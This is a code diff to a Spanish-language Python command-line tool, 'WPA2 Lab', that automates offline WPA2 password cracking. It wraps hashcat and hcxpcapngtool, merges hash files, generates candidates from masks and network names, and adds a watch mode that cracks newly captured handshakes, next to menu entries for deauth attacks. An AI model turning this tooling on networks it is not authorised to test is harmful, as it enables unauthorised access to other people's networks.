+                b = crack_engine.stream(hashf, src, start, stop, workers=workers, tel=tel,
+                                        extra=extra, batch=batch)
+            for k in st:
+                st[k] += b[k]
+            _block_done(sizer, b["candidates"], b["elapsed"])
+            _collect(hashf, table, found_pw)
+            console.print(Panel(table, title=f"✓ Hallados bloque {block}", box=box.ROUNDED))
+            cont = console.input("Continuar con siguiente bloque? ([y]/n) ").strip().lower()
+            if cont and cont != "y":
+                break
+            start, block = stop, block + 1
+        sizer.save()
+        st["gen_rate"] = st["candidates"] / st["gen_s"] if st["gen_s"] else 0.0
+        st["crack_rate"] = st["candidates"] / st["elapsed"] if st["elapsed"] else 0.0
+    if auto:
+        console.print(table)
+    console.print(f"[dim]{st['candidates']:,} candidatos · generación {st['gen_rate']:,.0f} c/s · "
+                  f"crack {st['crack_rate']:,.0f} c/s[/]")
+    log.info("CRACK-GEN %r cand=%d gen=%.0f/s crack=%.0f/s", src, st["candidates"],
+             st["gen_rate"], st["crack_rate"])
+
+def _wl_lines(path: Path) -> tuple[int, bool]:
+    """(líneas, exacto): las comprimidas se estiman por muestra, sin descomprimirlas enteras."""
+    return wordlists.estimate_lines(path) if wordlists.is_packed(path) else (candidates.count_lines(path), True)
+
+def _order_model(hashf: Optional[str]) -> tuple[ordering.Model, list]:
+    """Modelo de orden: historial de results.Store + ESSID del hash (si lo hay)."""
+    store = results.Store()
+    try:
+        hist = store.history()
+    finally:
+        store.close()
+    essids = {bytes.fromhex(h.essid) for h in hash22000.read(hashf)} if hashf else set()
+    return ordering.Model(hist, essids), hist
+
+def _ordered(wl_path: Path, hashf: Optional[str], rebuild: bool = False,
+             mem: int = ordering.MEM) -> tuple[Path, ordering.Model, list]:
+    """Copia de la word-list ordenada por probabilidad (cache/, se reutiliza)."""
+    model, hist = _order_model(hashf)
+    with console.status(f"Ordenando {wl_path.name} por probabilidad…"):
+        out, st = ordering.cached(wl_path, model, rebuild, mem)
+    if st:
+        log.info("ORDER %s → %s lines=%d runs=%d %.1fs", wl_path, out.name, st["lines"], st["runs"], st["elapsed"])
+        console.print(f"[dim]{wl_path.name} → {out.name}: {st['lines']:,} candidatos válidos, "
+                      f"{st['runs']} run(s), {st['elapsed']:.1f} s[/]")
+    else:
+        console.print(f"[dim]{wl_path.name}: orden en caché ({out.name})[/]")
+    return out, model, hist
+
+def act_crack(mask: Optional[str] = None, essid_gen: bool = False, workers: Optional[int] = None,
+              rule_spec: Optional[str] = None, devices: Optional[List[str]] = None, order: bool = False,
+              hashes: Optional[List[str]] = None):
     """
     Crack WPA2 con hashcat en modo AUTOMÁTICO o INTERACTIVO
     ─────────────────────────────────────────────────────────
-    • Si no hay STATE['hash'], lista los hashes en hashes/ y deja elegir.
+    • Lista los hashes en hashes/ y deja elegir uno o varios ('0,2', '1-3',
+      '*'; Enter = STATE['hash']); también `hashes` (--hashes 'hashes/*.22000').
+      Desde la línea de comandos, sin --hashes, se usa STATE['hash'] directamente.
+      Varios se fusionan en un solo conjunto sin duplicados: una pasada por la
+      word-list por ESSID distinto, no por fichero, y al final cada resultado
+      vuelve a su fichero de origen.
     • Elige rockyou.txt, dnsmap.txt, o importa tu propia lista (con autocompletar).
+    • O genera candidatos al vuelo: máscara (m) y/o derivados del ESSID (e),
+      repartidos en `workers` procesos hashcat y reanudables.
+    • Reglas opcionales (lab / fichero .rule) sobre la word-list, en memoria.
+    • `order`: la word-list se recorre ordenada por probabilidad (historial +
+      ESSID), con una copia en cache/ que se reutiliza.
+    • Perfil de la máquina (tuning.json): workload -w, bloque, lote y nº de
+      workers por defecto, y ETA de cada word-list antes de empezar.
     • Modo Automático  : lee TODA la word-list, muestra barra de progreso y tabla viva.
-    • Modo Interactivo : procesa por bloques; pregunta tras cada bloque y muestra paneles
+                         Una word-list simple se reparte (mmap, sin copias) entre
+                         `workers` hashcat / grupos de `devices`, con robo de trabajo.
+    • Modo Interactivo : procesa por bloques de ~N s (tamaño ajustado al ritmo medido
+                         y al historial); pregunta tras cada bloque y muestra paneles
                          “Bloque X” y “✓ Hallados bloque X”.
     • Tabla → 2 columnas (SSID | Contraseña). Contraseña en rojo y negrita.
     • Al final solo: “✅ Crack completado”.
     """
-    ensure("hashcat")
-
-    # ╭─ 0) Hash a crackear ──────────────────────────────────────────────╮
-    hashf = STATE.get("hash")
-    if not hashf:
-        hdir   = PROJECTROOT / "hashes"
-        hashes = sorted(hdir.glob("hash-*.22000"))
-        if not hashes:
-            console.print("[red]No hay hashes en hashes/. Usa opción 7 primero.[/]")
-            return
-        tbl = Table("Índice", "Hash", box=box.SIMPLE)
-        for i, f in enumerate(hashes):
-            tbl.add_row(str(i), f.name)
-        console.print(Panel(tbl, title="Hashes disponibles"))
-        sel = console.input("[bold]Índice (q para salir):[/] ").strip()
-        if sel.lower() == "q":
-            return
-        try:
-            hashf = str(hashes[int(sel)])
-        except Exception:
-            console.print("[red]Índice inválido.[/]")
-            return
+    ensure(crack_engine.HASHCAT, "hashcat")
+    sources = _pick_hashes(hashes)
+    if not sources:
+        return
+    if len(sources) == 1:
+        _crack(sources[0], mask, essid_gen, workers, rule_spec, devices, order)
+        return
+    merged = _merge_hashes(sources)
+    try:
+        _crack(str(merged), mask, essid_gen, workers, rule_spec, devices, order)
+    finally:
+        _remember(merged)                 # lo hallado antes de una interrupción también
+        _map_back(sources)
+        for p in (merged, Path(f"{merged}.pending"), crack_engine.cracked_path(merged)):
+            p.unlink(missing_ok=True)
+
+def _parse_selection(sel: str, n: int) -> list[int]:
+    """'0,2' · '1-3' · '*' → índices (ValueError si alguno no existe)."""
+    if sel.strip() in ("*", "a"):
+        return list(range(n))
+    out: list[int] = []
+    for part in sel.replace(" ", "").split(","):
+        a, _, b = part.partition("-")
+        out += range(int(a), int(b or a) + 1)
+    if not out or any(not 0 <= i < n for i in out):
+        raise ValueError(sel)
+    return list(dict.fromkeys(out))
+
+def _pick_hashes(hashes: Optional[List[str]]) -> list[str]:
+    """Ficheros .22000 a crackear: los indicados o los elegidos en la lista (Enter = el del estado)."""
+    if hashes:
+        return hashes
+    hdir   = PROJECTROOT / "hashes"
+    found  = sorted(hdir.glob("hash-*.22000"))
+    last   = Path(STATE["hash"]) if STATE.get("hash") and Path(STATE["hash"]).exists() else None
+    if last and last.resolve() not in {f.resolve() for f in found}:
+        found.insert(0, last)
+    if not found:
+        console.print("[red]No hay hashes en hashes/. Usa opción 7 primero.[/]")
+        return []
+    default = next((str(i) for i, f in enumerate(found) if last and f.resolve() == last.resolve()), "")
+    tbl = Table("Índice", "Hash", "Líneas", "ESSID", box=box.SIMPLE)
+    for i, f in enumerate(found):
+        ls = hash22000.read(f)
+        mark = " [green](último)[/]" if str(i) == default else ""
+        tbl.add_row(str(i), f.name + mark, str(len(ls)), str(len({h.essid for h in ls})))
+    console.print(Panel(tbl, title="Hashes disponibles"))
+    hint = f"; Enter = {default}" if default else ""
+    sel = console.input(f"[bold]Índice(s) ('0,2', '1-3', '*'{hint}; q para salir):[/] ").strip() or default
+    if sel.lower() == "q":
+        return []
+    try:
+        return [str(found[i]) for i in _parse_selection(sel, len(found))]
+    except ValueError:
+        console.print("[red]Índice inválido.[/]")
+        return []
+
+def _merge_hashes(sources: list[str]) -> Path:
+    """Un único .multi (sin duplicados, triado) con todos; el nombre depende del contenido."""
+    lines, rep = hash22000.merge(sources)
+    key = hashlib.sha1("".join(sorted(h.raw for h in lines)).encode()).hexdigest()[:10]
+    dest = PROJECTROOT / "hashes" / f"multi-{key}.multi"
+    hash22000.write(dest, lines)
+    log.info("MULTI %d files %d → %d lines, ESSID passes %d → %d → %s", rep["files"], rep["read"],
+             rep["after"], rep["passes"], rep["essids"], dest.name)
+    console.print(f"[cyan]{rep['files']} ficheros · {rep['read']} → {rep['after']} líneas · "
+                  f"{rep['passes']} → {rep['essids']} pasadas (ESSID distintos)[/]")
+    return dest
+
+def _map_back(sources: list[str]):
+    """Lo crackeado en el conjunto fusionado, verificado y anotado en cada fichero de origen."""
+    tbl = Table("Fichero", "Hashes", "Resueltos", box=box.SIMPLE, title="Resultados por fichero")
+    store = results.Store()
+    try:
+        for src in sources:
+            lines = hash22000.read(src)
+            done, _, _ = results.prepass(lines, store, [])
+            try:
+                have = set(crack_engine.cracked_path(src).read_text(errors="replace").splitlines())
+            except OSError:
+                have = set()
+            new = [f"{h.mic}:{h.ap}:{h.client}:{h.essid_text}:{pw}" for h, pw in done]
+            new = [l for l in dict.fromkeys(new) if l not in have]
+            if new:
+                crack_engine.record(src, new)
+            tbl.add_row(Path(src).name, str(len(lines)),
+                        f"[bold]{len(done)}[/]" if done else "0")
+    finally:
+        store.close()
+    console.print(tbl)
+
+def _crack(hashf: str, mask: Optional[str], essid_gen: bool, workers: Optional[int],
+           rule_spec: Optional[str], devices: Optional[List[str]], order: bool):
+    """Cuerpo de act_crack para un fichero (o el conjunto fusionado)."""
+    # ╭─ 0b) Pre-pasada: resultados guardados y contraseñas del lab ──────╮
+    pending = _known(hashf)
+    if pending is None:
+        console.print(Panel("✅ Todo resuelto sin crackear", box=box.ROUNDED, style="green"))
+        return
+    hashf = str(pending)
+    prof = _tuning()
+    extra = ["-w", str(prof["workload"])]
+    if workers is None:
+        workers = prof["workers"]
+        devices = devices or prof["device_groups"] or None
+    n_essids = len({h.essid for h in hash22000.read(hashf)})
 
     # ╭─ 1) Word-list ────────────────────────────────────────────────────╮
     wl_dir = Path("/usr/share/wordlists")
     base_wls = ["rockyou.txt", "dnsmap.txt"]
-    wls = [wl_dir / n for n in base_wls if (wl_dir / n).exists()]
-    tbl = Table("Índice", "Word-list", box=box.SIMPLE)
+    wls = [w for w in (wordlists.find(wl_dir / n) for n in base_wls) if w]   # Kali: rockyou.txt.gz
+    n_lines = {w: _wl_lines(w) for w in wls}
+    tbl = Table("Índice", "Word-list", "Líneas", "ETA", box=box.SIMPLE)
     for i, w in enumerate(wls):
-        tbl.add_row(str(i), w.name)
+        n, exact = n_lines[w]
+        tbl.add_row(str(i), w.name, f"{'' if exact else '~'}{n:,}",
+                    _fmt_eta(tuning.eta(prof, n, n_essids)))
     tbl.add_row("[green]i[/green]", "[magenta]Importar otra…[/magenta]")
-    console.print(Panel(tbl, title="Word-lists"))
-    wl_choice = console.input("[bold]Elige índice o 'i':[/] ").strip().lower()
-    if wl_choice == "i":
+    tbl.add_row("[green]m[/green]", "[magenta]Máscara (?d?l?u?s?a)…[/magenta]")
+    tbl.add_row("[green]e[/green]", "[magenta]Derivadas del ESSID (+ 'm' para combinar: em)[/magenta]")
+    if mask or essid_gen:
+        wl_choice = ("m" if mask else "") + ("e" if essid_gen else "")
+    else:
+        console.print(Panel(tbl, title="Word-lists"))
+        wl_choice = console.input("[bold]Elige índice, 'i', 'm' o 'e':[/] ").strip().lower()
+    src = None
+    if wl_choice and set(wl_choice) <= {"m", "e"}:
+        src = _pick_generator(wl_choice, hashf, mask)
+        if src is None:
+            return
+        wl_path = None
+    elif wl_choice == "i":
         wl_path = Path(prompt("Ruta word-list: ", completer=PathCompleter()))
     else:
         try:
             wl_path = wls[int(wl_choice)]
         except Exception:
             console.print("[red]Índice inválido – uso rockyou.txt[/]")
-            wl_path = wl_dir / "rockyou.txt"
-    if not wl_path.exists():
+            wl_path = wordlists.find(wl_dir / "rockyou.txt") or wl_dir / "rockyou.txt"
+    if src is None:
+        wl_path = wordlists.find(wl_path) or wl_path
+    if src is None and not wl_path.exists():
         console.print(f"[red]Word-list inexistente:[/] {wl_path}")
         return
+    if src is None and order:
+        wl_path = _ordered(wl_path, hashf)[0]
+
+    # ╭─ 1b) Reglas (mutaciones en streaming, sin copias en disco) ───────╮
+    if src is None:
+        if rule_spec is None and not (mask or essid_gen):
+            rule_spec = console.input("Reglas [Enter=ninguna · lab · ruta .rule] ").strip() or None
+        if rule_spec:
+            progs, skipped = rules.load(rule_spec)
+            if skipped:
+                console.print(f"[yellow]{skipped} reglas no soportadas ignoradas[/]")
+            if progs:
+                src = rules.RuleSource(candidates.FileSource(wl_path), progs)
 
     # ╭─ 2) Modo ─────────────────────────────────────────────────────────╮
     auto = console.input("¿Modo automático? ([y]/n) ").strip().lower() in ("", "y")
-    default_chunk = 50_000
-    if auto:
-        chunk_size = default_chunk
-    else:
-        blk = console.input(f"Tamaño bloque [Enter={default_chunk}] ").strip()
+    sizer = None
+    if not auto:
+        blk = console.input(f"Segundos por bloque [Enter={tuning.BLOCK_S}] ").strip()
         try:
-            chunk_size = int(blk) if blk else default_chunk
+            target = float(blk) if blk else tuning.BLOCK_S
         except ValueError:
-            chunk_size = default_chunk
+            target = tuning.BLOCK_S
+        sizer = tuning.BlockSizer(prof, target, n_essids)
 
     # ╭─ 3) Cabecera elegante ────────────────────────────────────────────╮
+    total, exact = (src.keyspace, True) if src is not None else n_lines.get(wl_path) or _wl_lines(wl_path)
+    packed = src is None and wordlists.is_packed(wl_path)
     header = Panel.fit(
         f"📶 Crack WPA2\n"
         f"Hash: {Path(hashf).name}\n"
-        f"WL: {wl_path.name}  •  Bloque: {chunk_size} líneas  •  "
-        f"{'Automático' if auto else 'Interactivo'}",
+        f"WL: {wl_path.name if src is None else repr(src)}"
+        f"{' (descompresión en streaming)' if packed else ''}  •  "
+        f"{'Automático' if auto else f'Interactivo (bloques de ~{sizer.target:g} s)'}\n"
+        f"{'' if exact else '~'}{total:,} candidatos × {n_essids} ESSID  •  -w {prof['workload']}  •  {workers} worker(s)  •  "
+        f"ETA ~{_fmt_eta(tuning.eta(prof, total, n_essids))}",
         title="🔑 Iniciando crack",
         box=box.ROUNDED,
         style="cyan")
@@ -582,9 +1097,16 @@ def act_crack():
     table = Table("SSID", "Contraseña", box=box.SIMPLE, header_style="bold")
     found_pw = set()
 
+    # ╭─ 4G) Candidatos generados (stdin, sin fichero) ───────────────────╮
+    tel = telemetry.Telemetry(TELEMETRY_LOG, hash=Path(hashf).name)
+    if src is not None:
+        _crack_generated(hashf, src, auto, sizer, workers, table, found_pw, tel,
+                         extra, prof["batch"])
+
     # ╭─ 4A) Modo AUTOMÁTICO (barra de progreso y tabla viva) ────────────╮
-    if auto:
-        total_lines = sum(1 for _ in wl_path.open("r", errors="ignore"))
+    elif auto:
+        sc = (sharding.PackedCrack if packed else sharding.ShardedCrack)(
+            hashf, wl_path, workers, devices, extra, tel=tel)
         progress = Progress(
             SpinnerColumn(),
             BarColumn(bar_width=None),
@@ -592,72 +1114,159 @@ def act_crack():
             TimeRemainingColumn(),
             console=console,
             transient=True)
-        task = progress.add_task("Crackeando", total=total_lines)
+        task = progress.add_task("Crackeando", total=sc.size)
 
-        group = Group(progress, table)
+        def found(essid, pw):
+            if pw not in found_pw:
+                found_pw.add(pw)
+                table.add_row(essid, f"[bold red]{pw}[/bold red]")
+
+        group = Group(progress, _StatusLine(tel, total), table)
         with Live(group, console=console, refresh_per_second=2):
-            with wl_path.open("r", errors="ignore") as fh:
-                while True:
-                    chunk = list(islice(fh, chunk_size))
-                    if not chunk:
-                        break
-                    # escribe chunk tmp
-                    tmp = tempfile.NamedTemporaryFile("w+", delete=False)
-                    tmp.write("".join(chunk)); tmp.close()
-                    subprocess.run(
-                        ["hashcat", "-m", "22000", hashf, tmp.name, "--quiet"],
-                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
-                    )
-                    os_lines = len(chunk)
-                    progress.update(task, advance=os_lines)
-                    # lee passwords
-                    show = subprocess.check_output(
-                        ["hashcat", "-m", "22000", "--show", hashf],
-                        text=True).strip()
-                    for line in show.splitlines():
-                        parts = line.split(":")
-                        if len(parts) >= 4:
-                            ssid, pwd = parts[2], parts[-1]
-                            if pwd not in found_pw:
-                                found_pw.add(pwd)
-                                table.add_row(ssid, f"[bold red]{pwd}[/bold red]")
+            st = sc.run(on_progress=lambda n: progress.update(task, advance=n),
+                        on_found=found)
+            _collect(hashf, table, found_pw)        # lo que ya estaba en el potfile
+        per = " · ".join(f"{b / 1e6:.1f}" for b in st["per_worker"])
+        console.print(f"[cyan]{st['rate'] / 1e6:.1f} MB/s · {sc.workers} worker(s) "
+                      f"[{per}] MB · "
+                      + (f"{st['packed'] / 1e6:.1f} MB comprimidos leídos[/]" if packed
+                         else f"{st['steals']} robos de trabajo[/]")
+                      + (" [yellow](interrumpido)[/]" if st.get("interrupted") else ""))
 
     # ╭─ 4B) Modo INTERACTIVO ────────────────────────────────────────────╮
     else:
-        with wl_path.open("r", errors="ignore") as fh:
+        with (sharding.PackedBlocks if packed else sharding.LineBlocks)(wl_path) as blocks:
             block = 1
             while True:
-                chunk = list(islice(fh, chunk_size))
-                if not chunk:
+                a, b, n = blocks.take(sizer.next())
+                if not n:
                     break
-                console.print(Panel(f"Bloque {block} → probando {len(chunk)} contraseñas",
+                console.print(Panel(f"Bloque {block} → probando {'hasta ' if packed else ''}{n:,} contraseñas",
                                     box=box.ROUNDED))
-                tmp = tempfile.NamedTemporaryFile("w+", delete=False)
-                tmp.write("".join(chunk)); tmp.close()
-                subprocess.run(
-                    ["hashcat", "-m", "22000", hashf, tmp.name, "--quiet"],
-                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
-                )
-                show = subprocess.check_output(
-                    ["hashcat", "-m", "22000", "--show", hashf],
-                    text=True).strip()
-                for line in show.splitlines():
-                    parts = line.split(":")
-                    if len(parts) >= 4:
-                        ssid, pwd = parts[2], parts[-1]
-                        if pwd not in found_pw:
-                            found_pw.add(pwd)
-                            table.add_row(ssid, f"[bold red]{pwd}[/bold red]")
+                tel.reset()
+                t0 = time.perf_counter()
+                before = blocks.lines
+                with Live(_StatusLine(tel, n), console=console, transient=True,
+                          refresh_per_second=2):
+                    blocks.crack(hashf, a, b, extra, tel)
+                _block_done(sizer, blocks.lines - before, time.perf_counter() - t0)
+                _collect(hashf, table, found_pw)
                 console.print(Panel(table, title=f"✓ Hallados bloque {block}",
                                     box=box.ROUNDED))
                 cont = console.input("Continuar con siguiente bloque? ([y]/n) ").strip().lower()
                 if cont and cont != "y":
                     break
                 block += 1
+        sizer.save()
 
     # ╭─ 5) Fin ───────────────────────────────────────────────────────────╮
+    tel.close()
+    if tel.samples:
+        console.print(f"[dim]📈 {tel.samples} muestras de estado → {TELEMETRY_LOG}[/]")
+    _remember(hashf)
     console.print(Panel("✅ Crack completado", box=box.ROUNDED, style="green"))
 
+# ────────────────────────── VIGILANCIA ────────────────────────
+def _default_wordlist() -> Optional[Path]:
+    try:
+        wl = (yaml.safe_load(LAB_CONFIGS[0].read_text()) or {}).get("paths", {}).get("wordlist")
+    except (OSError, yaml.YAMLError, AttributeError):
+        wl = None
+    for p in (wl, "/usr/share/wordlists/rockyou.txt"):
+        if p and wordlists.find(p):
+            return wordlists.find(p)
+    return None
+
+def _stamp(msg: str):
+    console.print(f"[dim]{time.strftime('%H:%M:%S')}[/] {msg}")
+    log.info("WATCH %s", re.sub(r"\[/?[^\]]*\]", "", msg))
+
+def _watch_capture(pcap: Path):
+    """Captura cerrada → hashes/hash-<captura>.22000 ya triada (rename atómico)."""
+    dest = PROJECTROOT / "hashes" / f"hash-{Path(capstore.stem(pcap)).stem}.22000"
+    tmp = dest.with_suffix(".tmp")
+    with tempfile.TemporaryDirectory(prefix="wpa2lab-") as tmpdir:
+        subprocess.run(["hcxpcapngtool", "-o", str(tmp), *_hcx_inputs([str(pcap)], Path(tmpdir))],
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    lines = hash22000.read(tmp) if tmp.exists() else []
+    if not lines:
+        tmp.unlink(missing_ok=True)
+        _stamp(f"📦 {pcap.name}: sin hashes")
+        return
+    kept, _ = hash22000.triage(lines)
+    hash22000.write(tmp, kept)
+    tmp.replace(dest)                                     # dispara la regla de hashes/
+    _stamp(f"📦 {pcap.name}: {len(kept)} hashes → {dest.name}")
+
+def _watch_crack(hashf: Path, seen: set, lock: threading.Lock, wordlist: Optional[Path],
+                 workers: int):
+    """Hash nuevo → sólo líneas no vistas → pre-pasada → ESSID + word-list."""
+    lines = hash22000.read(hashf)
+    with lock:
+        new = [h for h in lines if h.mic not in seen]
+        seen.update(h.mic for h in new)
+    if not new:
+        _stamp(f"🔁 {hashf.name}: nada nuevo")
+        return
+    store = results.Store()
+    try:
+        done, pending, st = results.prepass(
+            new, store, results.lab_passphrases(LAB_CONFIGS, [AP_PASSPHRASE]))
+    finally:
+        store.close()
+    for h, pw in done:
+        _stamp(f"🔑 {h.essid_text}: [bold red]{pw}[/bold red] (conocida)")
+    if not pending:
+        return
+    job = Path(f"{hashf}.pending")
+    hash22000.write(job, pending)
+    _stamp(f"⚙️  {hashf.name}: {len(pending)} hashes en cola de crack")
+    essids = sorted({h.essid_text for h in pending})
+    tel = telemetry.Telemetry(TELEMETRY_LOG, hash=job.name)
+    crack_engine.stream(job, candidates.WordSource(candidates.essid_words(essids), "essid"),
+                        workers=1, tel=tel)
+    if wordlist:
+        (sharding.PackedCrack if wordlists.is_packed(wordlist) else sharding.ShardedCrack)(
+            job, wordlist, workers, tel=tel).run()
+    tel.close()
+    _remember(job)
+    hits = crack_engine.show(job)
+    for essid, pw in hits:
+        _stamp(f"🔑 {essid}: [bold red]{pw}[/bold red]")
+    if not hits:
+        _stamp(f"✗ {hashf.name}: sin resultado")
+
+def act_watch(poll: Optional[float] = None, jobs: int = 1, workers: int = 1,
+              wordlist: Optional[Path] = None, quiet: float = 10.0):
+    """
+    Vigila captures/ y hashes/: cada captura cerrada o rotada se extrae y cada
+    .22000 nuevo se deduplica, pasa la pre-pasada y entra en la cola de crack
+    (`jobs` cracks a la vez). inotify si existe; `poll` fuerza el sondeo.
+    """
+    ensure("hcxpcapngtool", "hcxtools")
+    ensure(crack_engine.HASHCAT, "hashcat")
+    hdir = PROJECTROOT / "hashes"
+    hdir.mkdir(exist_ok=True)
+    CAP_DIR.mkdir(exist_ok=True)
+    wordlist = wordlist or _default_wordlist()
+    seen = {h.mic for f in hdir.glob("*.22000") for h in hash22000.read(f)}
+    lock = threading.Lock()
+    w = watcher.Watcher(
+        [watcher.Rule(CAP_DIR, (".pcapng", *(".pcapng" + e for e in capstore.EXT.values())),
+                      _watch_capture, quiet, workers=2),
+         watcher.Rule(hdir, ".22000",
+                      lambda p: _watch_crack(p, seen, lock, wordlist, workers), 1.0, jobs)],
+        poll=poll,
+        on_error=lambda p, e: _stamp(f"[red]{p.name}: {e}[/]"))
+    console.print(Panel.fit(
+        f"👀 Vigilando {CAP_DIR} y {hdir} ({w.mode})\n"
+        f"{len(seen)} hashes ya conocidos · word-list: {wordlist or '—'} · {jobs} crack(s) a la vez",
+        style="cyan"))
+    try:
+        w.run()
+    except KeyboardInterrupt:
+        console.print("[yellow]Parado.[/]")
+
 # ── menú ─────────────────────────────────────────────────
 MENU = [
     ("1", "Modo MONITOR",   act_prepare),
@@ -670,6 +1279,7 @@ MENU = [
     ("6", "Extraer hash",   act_extract),   # ← antes era 7
     ("7", "Crack offline",  act_crack),     # ← antes era 8
     ("8", "Deauth attack",  act_deauth),    # ← antes era 5
+    ("9", "Vigilancia auto", act_watch),    # Ctrl-C vuelve al menú
 
     ("0", "Salir",          None),
 ]
@@ -684,8 +1294,14 @@ def show_menu():
     for k,txt,_ in MENU: tbl.add_row(k, txt)
     console.print(tbl)
 
+def _profile_done(sess: profiling.Session):
+    log.info("PROFILE %s %.1fs %s", sess.base.name, sess.elapsed, " ".join(p.name for p in sess.files))
+    console.print(f"[dim]🔬 Perfil ({sess.elapsed:.1f} s) → {', '.join(p.name for p in sess.files)} en {LOG_FILE.parent}[/]")
+
 def interactive():
-    actions = {k:f for k,_,f in MENU}
+    spec = os.environ.get(profiling.ENV)
+    actions = {k: profiling.wrap(f, spec, LOG_FILE.parent, _profile_done) if spec and f else f
+               for k,_,f in MENU}
     while True:
         show_menu()
         try:
@@ -707,6 +1323,20 @@ def interactive():
 
 
 # ── CLI directo (Typer) ────────────────────────────────────────────────────
+@cli.callback()
+def _global(ctx: typer.Context,
+            profile: Optional[str] = typer.Option(None, "--profile", envvar=profiling.ENV,
+                                                  help="cprofile | sample | mem (combinables: sample,mem) → logs/profile-*")):
+    """WPA2 Lab: `--profile` perfila el comando entero (pstats, pilas colapsadas, tracemalloc)."""
+    if not profile or not ctx.invoked_subcommand:
+        return
+    try:
+        sess = profiling.Session(ctx.invoked_subcommand, profile, LOG_FILE.parent)
+    except ValueError as e:
+        console.print(f"[red]{e}[/]")
+        raise typer.Exit(1)
+    ctx.call_on_close(lambda: sess.files and _profile_done(sess))
+    ctx.with_resource(sess)
 @cli.command()  # python … monitor
 def monitor(): act_prepare()
 @cli.command()  # python … ap
@@ -716,11 +1346,430 @@ def scan_cli(): act_scan()
 @cli.command()  # python … deauth
 def deauth():   act_deauth()
 @cli.command()  # python … capture
-def capture():  act_capture()
-@cli.command()  # python … extract
-def extract():  act_extract()
-@cli.command()  # python … crack
-def crack():    act_crack()
+def capture(rotate_mb: float = typer.Option(ROTATE_MB, "--rotate-mb", help="Nuevo segmento cada N MB (0 = off)"),
+            rotate_min: float = typer.Option(ROTATE_MIN, "--rotate-min", help="Nuevo segmento cada M minutos (0 = off)"),
+            adaptive: bool = typer.Option(False, "--adaptive", help="Reparte la escucha entre canales según escaneo y capturas"),
+            compress: str = typer.Option(capstore.DEFAULT, "--compress", help="Códec de los segmentos cerrados: gz | xz | zst | none")):
+    act_capture(rotate_mb, rotate_min, adaptive, None if compress == "none" else compress)
+@cli.command()  # python … extract [--bssid AA:BB:… --essid RED]
+def extract(bssid: List[str] = typer.Option([], "--bssid", help="Sólo este AP (repetible)"),
+            essid: List[str] = typer.Option([], "--essid", help="Sólo esta red (repetible)")):
+    act_extract(bssid, essid)
+@cli.command()  # python … query captura.pcapng --bssid AA:BB:… --kind pmkid
+def query(pcap: Path = typer.Argument(..., exists=True, help="Captura .pcapng"),
+          bssid: Optional[str] = typer.Option(None, "--bssid", help="AP"),
+          client: Optional[str] = typer.Option(None, "--client", help="Cliente"),
+          kind: str = typer.Option("eapol", "--kind", help="pmkid | eapol | m1m2 | m2m3 | m3m4 | all"),
+          out: Optional[Path] = typer.Option(None, "--out", "-o", help="Guarda los frames en un pcapng"),
+          rebuild: bool = typer.Option(False, "--rebuild", help="Regenera el índice")):
+    """Consulta el índice sidecar de una captura sin releerla entera."""
+    t0 = time.perf_counter()
+    idx = frame_index.load(pcap, rebuild=rebuild)
+    if kind in ("m1m2", "m2m3", "m3m4"):
+        pairs = idx.pairs(client, bssid, int(kind[1]), int(kind[3]))
+        recs = [r for pr in pairs for r in pr]
+    elif kind == "pmkid":
+        recs = idx.pmkids(bssid)
+    elif kind == "eapol":
+        recs = idx.select(bssid=bssid, client=client, eapol=(1, 2, 3, 4))
+    else:
+        recs = idx.select(bssid=bssid, client=client)
+    ms = (time.perf_counter() - t0) * 1000
+    tbl = Table("Offset", "Tiempo", "BSSID", "Cliente", "Msg", "PMKID", "Replay", box=box.SIMPLE)
+    for r in recs[:200]:
+        tbl.add_row(str(r.offset), datetime.fromtimestamp(r.ts).strftime("%H:%M:%S.%f")[:-3],
+                    r.bssid, r.client, f"M{r.eapol}" if r.eapol else "-",
+                    "✓" if r.pmkid else "", str(r.replay) if r.eapol else "")
+    console.print(tbl)
+    console.print(f"[dim]{len(recs)} frames de {len(idx.records)} indexados · {ms:.1f} ms[/]")
+    if out and recs:
+        n = idx.extract(recs, out)
+        console.print(f"[green bold]✓[/] {n} frames → {out}")
+@cli.command()  # python … merge [captures/a.pcapng captures/b.pcapng …] [-o merged.pcapng] [--all]
+def merge(pcaps: List[Path] = typer.Argument(None, help="Capturas (por defecto, todas las de captures/)"),
+          out: Optional[Path] = typer.Option(None, "--out", "-o", help="Captura fusionada"),
+          window: float = typer.Option(cap_merge.WINDOW, "--window", help="s en los que un frame repetido es duplicado"),
+          all_frames: bool = typer.Option(False, "--all", help="Conserva también lo que hcxpcapngtool no usa"),
+          delete: bool = typer.Option(False, "--delete", help="Borra las capturas de entrada al terminar")):
+    """Fusiona capturas solapadas por timestamp y quita los frames duplicados."""
+    pcaps = pcaps or [f for f in capstore.captures(CAP_DIR) if not f.name.startswith("merged-")]
+    if not pcaps:
+        console.print("[red]No hay capturas que fusionar[/]")
+        raise typer.Exit(1)
+    out = out or CAP_DIR / f"merged-{datetime.now():%Y%m%d_%H%M%S}.pcapng"
+    if out.resolve() in {p.resolve() for p in pcaps}:
+        console.print("[red]La salida no puede ser una de las entradas[/]")
+        raise typer.Exit(1)
+    t0 = time.perf_counter()
+    st = cap_merge.merge(pcaps, out, window, useful=not all_frames)
+    secs = time.perf_counter() - t0
+    tbl = Table("Captura", "Frames", "Duplicados", "Aportados", "KiB", box=box.SIMPLE)
+    for name, f in st["files"].items():
+        tbl.add_row(Path(name).name, str(f["read"]), str(f["dup"]), str(f["kept"]), str(f["size"] // 1024))
+    tbl.add_row(f"[bold]{out.name}[/]", str(st["read"]), str(st["dup"]), str(st["kept"]),
+                str(st["size_out"] // 1024))
+    console.print(tbl)
+    console.print(f"[dim]{st['skipped']} frames sin interés descartados · {st['beacons']} beacons conservados · "
+                  f"{st['size_in'] // 1024} → {st['size_out'] // 1024} KiB · {secs:.2f} s[/]")
+    log.info("MERGE %d files → %s: %d/%d frames, %d dup, %d→%d bytes", len(pcaps), out,
+             st["kept"], st["read"], st["dup"], st["size_in"], st["size_out"])
+    if delete:
+        for p in pcaps:
+            p.unlink()
+            frame_index.idx_path(p).unlink(missing_ok=True)
+    STATE.update(pcap=str(out), manifest=None)
+    console.print(f"[green bold]✓[/] {out} es ahora la captura activa (extract la usará)")
+@cli.command()  # python … compress [captures/x.pcapng …] [--codec xz] [--bench]
+def compress(pcaps: List[Path] = typer.Argument(None, help="Capturas (por defecto, las de captures/ en claro)"),
